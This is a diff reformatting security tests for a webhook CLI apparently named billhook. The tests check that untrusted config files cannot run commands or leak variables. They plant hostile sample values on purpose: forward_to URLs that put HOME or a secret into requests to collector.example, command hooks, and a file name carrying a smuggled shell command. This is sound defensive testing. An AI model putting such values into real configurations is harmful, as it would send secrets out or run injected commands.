@@ -29,18 +29,34 @@ const check = ['replay', 'paid.json', '--check', 'duplicate', '--settle', '60ms'
 
 test('a pull request that adds a command to billhook.yaml does not run it in CI', async () => {
   const handler = await startHandler({})
-  for (const [key, spec] of [['observe', '["cmd:touch ran; echo 1"]'], ['reset', 'cmd:touch ran'], ['restart', 'cmd:touch ran']] as const) {
+  for (const [key, spec] of [
+    ['observe', '["cmd:touch ran; echo 1"]'],
+    ['reset', 'cmd:touch ran'],
+    ['restart', 'cmd:touch ran'],
+  ] as const) {
     put('billhook.yaml', `replay:\n  to: ${handler.url}\n  ${key}: ${spec}\n`)
     const checks = ['replay', 'paid.json', '--check', 'crash,duplicate', '--settle', '60ms']
     const observe = key === 'observe' ? [] : ['--observe', handler.state]
     const ended = await billhook([...checks, ...observe], { cwd, env: { ...env, CI: 'true' } })
-    expect(ended, key).toMatchObject({ ...refused, stdout: '', stderr: expect.stringMatching(/^error: billhook\.yaml:3:\d+: replay\..* runs a command, and the file is not trusted: cmd:touch ran/) as string })
+    expect(ended, key).toMatchObject({
+      ...refused,
+      stdout: '',
+      stderr: expect.stringMatching(
+        /^error: billhook\.yaml:3:\d+: replay\..* runs a command, and the file is not trusted: cmd:touch ran/,
+      ) as string,
+    })
     expect(existsSync(join(cwd, 'ran')), key).toBe(false)
   }
 })
 
 test('a planted file does not take webhooks or variables to another host', async () => {
-  for (const yaml of ['listen: { forward_to: ["http://collector.example/?h=${HOME}"] }', 'sources: { stripe: { forward_to: ["http://127.0.0.1:9/${HOME}"] } }', 'listen: { host: 0.0.0.0 }', 'data_dir: ../elsewhere', 'schemas: /etc']) {
+  for (const yaml of [
+    'listen: { forward_to: ["http://collector.example/?h=${HOME}"] }',
+    'sources: { stripe: { forward_to: ["http://127.0.0.1:9/${HOME}"] } }',
+    'listen: { host: 0.0.0.0 }',
+    'data_dir: ../elsewhere',
+    'schemas: /etc',
+  ]) {
     put('billhook.yaml', yaml)
     const ended = await run('listen', '--port', '0', '--timeout', '300ms')
     expect(ended, yaml).toMatchObject(refused)
@@ -55,7 +71,9 @@ test('the command that would trust a file names it as one word of a shell', asyn
   const name = 'a b; touch ran.yaml'
   put(name, 'data_dir: /etc\n')
   for (const args of [['listen', '--port', '0'], ['doctor']]) {
-    expect((await run(...args, '--config', name)).stdout + (await run(...args, '--config', name)).stderr).toContain(`billhook trust '${name}'`)
+    expect((await run(...args, '--config', name)).stdout + (await run(...args, '--config', name)).stderr).toContain(
+      `billhook trust '${name}'`,
+    )
   }
   expect((await run('trust', name)).stdout).toContain(`  undo: billhook trust --revoke '${name}'\n`)
 })
@@ -65,7 +83,13 @@ test('once trusted it runs, until it changes or is revoked; and only that file',
   const yaml = `replay:\n  to: ${handler.url}\n  observe: ["cmd:touch ran; echo 1"]\n`
   put('billhook.yaml', yaml)
   const trusted = await run('trust')
-  expect(trusted).toMatchObject({ code: 0, stderr: '', stdout: expect.stringContaining('billhook.yaml:3:13: replay.observe[0] runs a command: cmd:touch ran; echo 1\n') as string })
+  expect(trusted).toMatchObject({
+    code: 0,
+    stderr: '',
+    stdout: expect.stringContaining(
+      'billhook.yaml:3:13: replay.observe[0] runs a command: cmd:touch ran; echo 1\n',
+    ) as string,
+  })
   const file = join(env.HOME, '.config', 'billhook', 'trust.json')
   expect([statSync(file).mode & 0o777, statSync(join(file, '..')).mode & 0o777]).toEqual([0o600, 0o700])
   expect((await run(...check)).code).toBe(4)
@@ -73,7 +97,10 @@ test('once trusted it runs, until it changes or is revoked; and only that file',
   expect((await run('trust', '--list')).stdout).toMatch(/^trusted {2}\S+ {2}\S+billhook\.yaml\n$/)
 
   put('billhook.yaml', `${yaml}# one more comment\n`)
-  expect(await run(...check)).toMatchObject({ ...refused, stderr: expect.stringContaining('the file has changed since it was trusted') as string })
+  expect(await run(...check)).toMatchObject({
+    ...refused,
+    stderr: expect.stringContaining('the file has changed since it was trusted') as string,
+  })
   expect((await run('trust', '--list')).stdout).toMatch(/^changed {2}/)
   put('billhook.yaml', yaml)
   expect((await run(...check)).code).toBe(4)
@@ -101,25 +128,49 @@ test('--trust-config is for one run, and no variable stands for it', async () =>
 
 test('what does not need the untrusted value works without trust, and the command line takes its place', async () => {
   const target = await startTarget()
-  put('billhook.yaml', 'listen: { host: 0.0.0.0, forward_to: ["http://collector.example/"] }\nreplay: { to: "http://collector.example/", observe: ["cmd:touch ran"], reset: "cmd:touch ran", restart: "cmd:touch ran" }\n')
+  put(
+    'billhook.yaml',
+    'listen: { host: 0.0.0.0, forward_to: ["http://collector.example/"] }\nreplay: { to: ' +
+      '"http://collector.example/", observe: ["cmd:touch ran"], reset: "cmd:touch ran", restart: "cmd:touch ran" }\n',
+  )
   expect(await run('events', 'list')).toMatchObject({ code: 0 })
   expect((await run('validate', 'paid.json')).stderr).not.toContain('UNTRUSTED')
   expect(await run('inspect', 'paid.json', '--source', 'stripe')).toMatchObject({ code: 0 })
   expect(await run('replay', 'paid.json', '--to', target.url)).toMatchObject({ code: 0 })
   expect(await run('send', 'invoice.paid', '--source', 'stripe', '--to', target.url)).toMatchObject({ code: 0 })
-  expect(await run('listen', '--port', '0', '--host', '127.0.0.1', '--forward-to', target.url, '--timeout', '100ms')).toMatchObject({ code: 0 })
+  expect(
+    await run('listen', '--port', '0', '--host', '127.0.0.1', '--forward-to', target.url, '--timeout', '100ms'),
+  ).toMatchObject({ code: 0 })
   expect(existsSync(join(cwd, 'ran'))).toBe(false)
 })
 
 test('doctor names what is not trusted, says what is next, and contacts nothing of it', async () => {
   const target = await startTarget()
-  put('billhook.yaml', `listen: { port: 0, forward_to: ["${target.url}"] }\nsources: { stripe: { secrets: [whsec_a], forward_to: ["http://127.0.0.1:9/\${HOME}"] } }\nreplay: { observe: ["cmd:touch ran"] }\n`)
+  put(
+    'billhook.yaml',
+    `listen: { port: 0, forward_to: ["${target.url}"] }\nsources: { stripe: { secrets: [whsec_a], ` +
+      `forward_to: ["http://127.0.0.1:9/\${HOME}"] } }\nreplay: { observe: ["cmd:touch ran"] }\n`,
+  )
   const { code, stdout } = await run('doctor', '--format', 'json')
-  const { checks } = JSON.parse(stdout) as { checks: { name: string; status: string; message: string; hint?: string }[] }
+  const { checks } = JSON.parse(stdout) as {
+    checks: { name: string; status: string; message: string; hint?: string }[]
+  }
   expect(code).toBe(1)
   expect(checks.filter(({ name }) => name === 'trust')).toEqual([
-    { name: 'trust', status: 'fail', message: expect.stringMatching(/^billhook\.yaml:2:\d+: sources\.stripe\.forward_to\[0\] puts HOME into a URL/) as string, hint: expect.stringContaining('billhook trust billhook.yaml') as string },
-    { name: 'trust', status: 'fail', message: expect.stringContaining('runs a command') as string, hint: expect.any(String) as string },
+    {
+      name: 'trust',
+      status: 'fail',
+      message: expect.stringMatching(
+        /^billhook\.yaml:2:\d+: sources\.stripe\.forward_to\[0\] puts HOME into a URL/,
+      ) as string,
+      hint: expect.stringContaining('billhook trust billhook.yaml') as string,
+    },
+    {
+      name: 'trust',
+      status: 'fail',
+      message: expect.stringContaining('runs a command') as string,
+      hint: expect.any(String) as string,
+    },
   ])
   expect(checks.map(({ name }) => name)).toContain(`target ${new URL(target.url).origin}`)
   expect(stdout).not.toContain('127.0.0.1:9 ')
@@ -132,8 +183,16 @@ test('what is remembered is not overwritten when it cannot be read, and tells it
   const file = join(env.HOME, '.config', 'billhook', 'trust.json')
   for (const broken of ['{', '{"format":"billhook.trust/9","files":{}}', '[]']) {
     writeFileSync(file, broken)
-    for (const args of [['trust'], ['trust', '--list'], ['trust', '--revoke']]) expect(await run(...args)).toMatchObject({ code: 3, stdout: '', stderr: expect.stringContaining('BILLHOOK_TRUST_UNUSABLE') as string })
-    expect(await run('events', 'list')).toMatchObject({ ...refused, stderr: expect.stringContaining('trust.json') as string })
+    for (const args of [['trust'], ['trust', '--list'], ['trust', '--revoke']])
+      expect(await run(...args)).toMatchObject({
+        code: 3,
+        stdout: '',
+        stderr: expect.stringContaining('BILLHOOK_TRUST_UNUSABLE') as string,
+      })
+    expect(await run('events', 'list')).toMatchObject({
+      ...refused,
+      stderr: expect.stringContaining('trust.json') as string,
+    })
     expect(readFileSync(file, 'utf8')).toBe(broken)
   }
 })
@@ -156,7 +215,9 @@ test('a file that asks for nothing is not remembered', async () => {
 test('a repository that ships a trust.json is not the home folder of who has none, or a relative one', async () => {
   put('billhook.yaml', 'replay: { to: "http://127.0.0.1:9/", observe: ["cmd:touch ran; echo 1"] }')
   mkdirSync(join(cwd, '.config', 'billhook'), { recursive: true })
-  const sha256 = createHash('sha256').update(readFileSync(join(cwd, 'billhook.yaml'))).digest('hex')
+  const sha256 = createHash('sha256')
+    .update(readFileSync(join(cwd, 'billhook.yaml')))
+    .digest('hex')
   const files = { [join(realpathSync(cwd), 'billhook.yaml')]: { sha256, at: '2026-01-01T00:00:00.000Z' } }
   put('.config/billhook/trust.json', JSON.stringify({ format: 'billhook.trust/1', files }))
   for (const HOME of ['', '.', 'x/..']) {
@@ -166,16 +227,31 @@ test('a repository that ships a trust.json is not the home folder of who has non
   }
   mkdirSync(join(cwd, '.git'))
   env = { HOME: cwd }
-  expect(await run(...check)).toMatchObject({ ...refused, stderr: expect.stringContaining('kept inside its own repository') as string })
+  expect(await run(...check)).toMatchObject({
+    ...refused,
+    stderr: expect.stringContaining('kept inside its own repository') as string,
+  })
 })
 
 test('nobody has to set a secret to look at a file that would send it away', async () => {
-  put('billhook.yaml', 'listen: { forward_to: ["https://collector.example/?k=${UNSET_SECRET}"] }\nreplay: { to: "http://127.0.0.1:9/${UNSET_PATH}" }')
+  put(
+    'billhook.yaml',
+    'listen: { forward_to: ["https://collector.example/?k=${UNSET_SECRET}"] }\nreplay: { to: ' +
+      '"http://127.0.0.1:9/${UNSET_PATH}" }',
+  )
   expect(await run('validate', 'paid.json')).toMatchObject({ code: 4 })
   const doctor = await run('doctor')
   expect(doctor.stdout).toContain('puts UNSET_SECRET into a URL')
   expect(doctor.stdout).not.toContain('set UNSET_SECRET')
   expect(await run('listen', '--port', '0', '--timeout', '100ms')).toMatchObject(refused)
-  expect(await run('trust')).toMatchObject({ code: 0, stdout: expect.stringContaining('forward_to[0] may reach another machine and puts UNSET_SECRET into a URL: https://collector.example/?k=') as string })
-  expect(await run('listen', '--port', '0', '--timeout', '100ms')).toMatchObject({ code: 2, stderr: expect.stringContaining('BILLHOOK_CONFIG_UNSET') as string })
+  expect(await run('trust')).toMatchObject({
+    code: 0,
+    stdout: expect.stringContaining(
+      'forward_to[0] may reach another machine and puts UNSET_SECRET into a URL: https://collector.example/?k=',
+    ) as string,
+  })
+  expect(await run('listen', '--port', '0', '--timeout', '100ms')).toMatchObject({
+    code: 2,
+    stderr: expect.stringContaining('BILLHOOK_CONFIG_UNSET') as string,
+  })
 })
